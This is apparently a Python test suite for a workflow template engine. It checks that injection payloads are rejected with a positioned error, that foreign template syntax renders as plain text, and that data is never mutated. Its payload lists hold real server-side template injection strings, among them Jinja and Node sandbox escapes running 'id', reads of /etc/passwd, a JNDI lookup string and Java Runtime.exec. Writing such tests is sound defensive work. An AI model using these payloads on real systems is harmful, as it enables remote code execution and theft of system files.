"""Payloads that broke other template engines, and whatever hypothesis thinks of: text as it is, or one clear error."""

import copy
import pickle
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from zipped.engine import template
from zipped.engine.expression import parse
from zipped.engine.filters import FILTERS
from zipped.engine.template import TemplateError, render

SCOPE: dict[str, Any] = {
    "trigger": {
        "body": {"x": "secret", "list": [1, 2], "o": {"a": None}},
        "headers": {},
        "query": {},
        "method": "POST",
    },
    "steps": {"x": {"y": 1}},
    "run": {"id": "run_1"},
    "zip": {"id": "zip_1", "name": "n"},
}

#: None of these is an expression: each is an error that says where.
REFUSED = r"""
${{7*7}}
{{7*7}}
{{7*'7'}}
{{ 7 }}
{{ "x" }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ ''['__class__'] }}
{{ [].__class__.__base__ }}
{{ x.__class__ }}
{{ x.__class__.__mro__[1] }}
{{ trigger.__class__ }}
{{ trigger.body.__class__.__init__.__globals__ }}
{{ trigger["__class__"]["__mro__"] }}
{{ trigger.body.x.__class__ }}
{{ trigger.body.x.__len__() }}
{{ trigger.body.list.append(3) }}
{{ trigger.body.list.clear() }}
{{ trigger.body.clear() }}
{{ trigger.body.list.__add__ }}
{{ trigger.body.x.format(trigger) }}
{{ trigger.keys }}
{{ trigger.body.items() }}
{{ steps.constructor }}
{{ steps.x.constructor.constructor('return process')() }}
{{ steps.__proto__ }}
{{ trigger.body.__proto__.polluted }}
{{ config }}
{{ config.items() }}
{{ self }}
{{ self._TemplateReference__context }}
{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner.__init__.__globals__.os }}
{{ get_flashed_messages.__globals__ }}
{{ url_for.__globals__['current_app'].config }}
{{ namespace.__init__.__globals__ }}
{{ range(100000000) }}
{{ range.constructor("return global.process.mainModule.require('child_process').execSync('id')")() }}
{{ [0]*100000000 }}
{{ "a"*100000000 }}
{{ 9**9**9 }}
{{ 1e999 }}
{{ (1).__class__ }}
{{ ().__class__.__bases__[0] }}
{{ {}.__class__ }}
{{ dict.mro() }}
{{ trigger|attr('__class__') }}
{{ trigger|attr("\x5f\x5fclass\x5f\x5f") }}
{{ trigger.body.x|map('upper')|list }}
{{ trigger.body.x | eval }}
{{ trigger.body.x | safe }}
{{ trigger.body.x | tojson }}
{{ trigger.body.x | format(trigger) }}
{{ trigger.body.x | upper() | __class__ }}
{{ trigger.body.x | default(trigger.body.list) }}
{{ trigger.body.x | default(default) }}
{{ trigger.body.x | default(1 + 1) }}
{{ trigger.body.x | default([1]) }}
{{ trigger.body.x | default({}) }}
{{ trigger.body.x | replace("x", "y" }}
{{ trigger.body.x if trigger else 1 }}
{{ trigger.body.x and 1 }}
{{ trigger.body.x ~ 'a' }}
{{ trigger.body.x == 1 }}
{{ trigger.body.x; trigger }}
{{ trigger.body.x, trigger }}
{{ trigger.body.x = 1 }}
{{ trigger.body.x := 1 }}
{{ not trigger }}
{{ lambda: 1 }}
{{ `id` }}
{{ $env.PATH }}
{{ $json["x"] }}
{{ $('node').item }}
{{ =1 }}
{{ !trigger }}
{{ *trigger }}
{{ @trigger }}
{{ #with trigger }}
{{#if trigger}}x{{/if}}
{{#each trigger}}{{this}}{{/each}}
{{> partial}}
{{& trigger.body.x}}
{{^trigger}}
{{! comment }}
{{{ trigger.body.x }}}
{{ {{ trigger.body.x }} }}
{{ trigger.body["{{ x }}"] }}
{{ this.constructor }}
{{ constructor.constructor('alert(1)')() }}
{{ process.env }}
{{ global.process.mainModule.require('child_process') }}
{{ require('fs') }}
{{ _self.env.registerUndefinedFilterCallback("exec") }}
{{ app.request.server.all|join(',') }}
{{ ['id']|filter('system') }}
{{ dump(app) }}
{{ import os }}
{{ print(1) }}
{{ __import__('os').system('id') }}
{{ os.environ }}
{{ open('/etc/passwd').read() }}
{{ trigger..body }}
{{ .body }}
{{ trigger. }}
{{ trigger[] }}
{{ trigger['body }}
{{ trigger[body] }}
{{ trigger[0:1] }}
{{ trigger[-1] }}
{{ trigger.body.list[99999999999] }}
{{ trigger.body.list[1e3] }}
{{ | upper }}
{{ trigger | }}
{{ trigger || upper }}
{{ trigger.body.x | upper upper }}
{{
{{ trigger
{{ trigger.body.x }
{{-trigger.body.x-}}
{{%20trigger%20}}
{{\u0074rigger}}
{{ trigger\.body }}
""".strip().splitlines()

#: The names of roots in other alphabets.
REFUSED += ["{{ trigg\u0435r.body.x }}", "{{ \uff54rigger.body.x }}"]

#: No "{{": nothing but text, however it looks.
LITERAL = r"""
${7*7}
#{7*7}
*{7*7}
@{7*7}
~{7*7}
{% for x in range(9999999) %}x{% endfor %}
{% import os %}{% set x = 1 %}
{# comment #}
{7*7}
{ {7*7} }
{php}echo `id`;{/php}
<%= 7*7 %>
<% require('fs') %>
<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }
${T(java.lang.Runtime).getRuntime().exec('id')}
${jndi:ldap://x/a}
$(id) `id` && id; id | id
%{7*7}
%s %d %(x)s %n
{0} {x} {x.__class__} {x!r:>{y}}
[[7*7]] [(7*7)]
[[${7*7}]]
a{*comment*}b
}} }
{ {
\{
\\
""".strip().splitlines()


@pytest.mark.parametrize("payload", REFUSED)
def test_a_payload_as_a_template_is_an_error_that_says_where(payload: str) -> None:
    before = copy.deepcopy(SCOPE)
    with pytest.raises(TemplateError) as caught:
        render({"field": payload}, SCOPE)
    assert caught.value.path == ("field",)
    assert 0 <= caught.value.position <= len(payload)
    assert before == SCOPE


@pytest.mark.parametrize("payload", LITERAL)
def test_other_languages_are_text(payload: str) -> None:
    assert render(payload, SCOPE) == payload


def test_a_payload_as_data_stays_as_it_is() -> None:
    for payload in [*REFUSED, *LITERAL]:
        scope = {"trigger": {"body": {"x": payload, "list": [payload]}}}
        assert render("{{ trigger.body.x }}", scope) == payload
        assert render("<{{ trigger.body.x }}>", scope) == f"<{payload}>"
        assert render(["{{ trigger.body.list }}"], scope) == [[payload]]


ANYTHING = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()) | st.binary(max_size=3),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=5) | st.integers(), inner, max_size=4),
    max_leaves=12,
)
WORDS = ["trigger", "steps", "run", "body", "x", "a b", "0", "__class__", *FILTERS]
SIGNS = [
    "{{",
    "}}",
    "|",
    ".",
    "[",
    "]",
    "(",
    ")",
    ",",
    '"',
    "'",
    "\\",
    " ",
    "-1",
    "0",
    "1e9",
    "true",
    "null",
    "\n",
    "é",
]
NEARLY = st.lists(st.sampled_from(WORDS + SIGNS), max_size=25).map("".join)
LITERALS = st.sampled_from(["0", "-1", "2.5", "1e308", '"x"', "'HH:mm'", '"UTC"', "true", "null", "100000"])
CALLS = st.builds(
    lambda name, arguments: f"{name}({', '.join(arguments)})",
    st.sampled_from(list(FILTERS)),
    st.lists(LITERALS, max_size=2),
)
WELL_FORMED = st.builds(lambda calls: "{{ " + " | ".join(["trigger", *calls]) + " }}", st.lists(CALLS, max_size=4))


@settings(deadline=None)
@given(text=NEARLY | WELL_FORMED | st.text(st.characters()), scope=st.fixed_dictionaries({"trigger": ANYTHING}))
def test_rendering_raises_nothing_but_its_own_error_and_changes_nothing(text: str, scope: dict[str, Any]) -> None:
    before = pickle.dumps(scope)
    try:
        result = render({"a": [text]}, scope)
    except TemplateError:
        pass
    else:
        assert "{{" in text or result == {"a": [text]}
    assert pickle.dumps(scope) == before


@settings(deadline=None)
@given(value=ANYTHING)
def test_any_template_is_rendered_or_refused(value: Any) -> None:
    before = pickle.dumps(value)
    try:
        result = render(value, {})
    except TemplateError:
        pass
    else:
        assert result == value
    assert pickle.dumps(value) == before


@settings(deadline=None)
@given(text=st.text("\\{} ax.|"))
def test_any_text_can_be_written_so_that_it_stays_as_it_is(text: str) -> None:
    """Backslashes before "{{" doubled, and one more: that is all the escaping there is."""
    escaped = ""
    rest = text
    while "{{" in rest:
        before, _, rest = rest.partition("{{")
        slashes = len(before) - len(before.rstrip("\\"))
        escaped += before + "\\" * slashes + "\\{{"
    assert render(escaped + rest, {}) == text


JSON = st.recursive(
    st.none() | st.booleans() | st.text(max_size=8) | st.integers(-(2**63), 2**64 - 1),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=4), inner, max_size=4),
    max_leaves=10,
)


@settings(max_examples=50, deadline=None)
@given(value=JSON)
def test_a_value_looked_up_alone_keeps_its_type_and_survives_json(value: Any) -> None:
    scope = {"trigger": {"body": value}}
    assert render("{{ trigger.body }}", scope) == value
    assert render("{{ trigger.body | json | parse_json }}", scope) == value
    assert [str(part) for part in template.references("{{ trigger.body }}")[0].path] == ["trigger", "body"]
    assert len(parse("{{ trigger.body }}")) == 1
